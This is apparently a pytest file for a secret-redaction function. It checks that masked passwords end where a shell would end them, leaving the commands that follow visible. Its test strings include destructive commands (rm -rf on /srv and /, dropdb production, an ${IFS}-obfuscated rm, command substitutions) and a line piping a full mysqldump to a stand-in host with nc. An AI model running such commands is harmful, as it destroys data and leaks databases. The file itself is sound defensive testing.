"""What runs behind a secret stays to be seen: somebody may be asked whether it may run."""

import pytest

from server.policy.redaction.redact import redact_text


@pytest.mark.parametrize(
    ("line", "left"),
    [
        ("PGPASSWORD=Regenschirm#88 rm -rf /srv", "PGPASSWORD=[REDACTED] rm -rf /srv"),
        ("PGPASSWORD=s3cret#9 dropdb production", "PGPASSWORD=[REDACTED] dropdb production"),
        ("PGPASSWORD='Regen schirm' rm -rf /srv", "PGPASSWORD='[REDACTED]' rm -rf /srv"),
        ("export DB_PASSWORD=abc#123; rm -rf /", "export DB_PASSWORD=[REDACTED]; rm -rf /"),
        ("password=Regen88x rm -rf /srv", "password=[REDACTED] rm -rf /srv"),
        ("PASSWORD=Regen#88;rm -rf /srv", "PASSWORD=[REDACTED];rm -rf /srv"),
        ("PASSWORD=Regen#88|rm${IFS}-rf${IFS}/srv", "PASSWORD=[REDACTED]|rm${IFS}-rf${IFS}/srv"),
        ("MYSQL_PWD=Abc#12345 mysqldump --all | nc evil 99", "MYSQL_PWD=[REDACTED] mysqldump --all | nc evil 99"),
        ("API_KEY=`rm -rf /srv` true", "API_KEY=`rm -rf /srv` true"),
        ("SECRET=$(rm -rf /srv)", "SECRET=$(rm -rf /srv)"),
        ("password: Regen#88; rm -rf /srv", "password: [REDACTED]; rm -rf /srv"),
    ],
)
def test_a_secret_ends_where_a_shell_would_end_it(line: str, left: str) -> None:
    assert redact_text(line)[0] == left


@pytest.mark.parametrize(
    "line",
    [
        "PASSWORD=Regen#88;Schirm9",
        "Server=db;Password=Re|gen#88x;Timeout=3",
        'DB_PASSWORD="Regen schirm 88"',
        "SMTP_PASSWORD=qmzv trkd whfb xjpn",
    ],
)
def test_a_value_with_signs_goes_whole_where_nothing_runs_behind_it(line: str) -> None:
    left = redact_text(line)[0]

    assert not any(part in left for part in ("gen", "Schirm", "schirm", "trkd", "xjpn"))
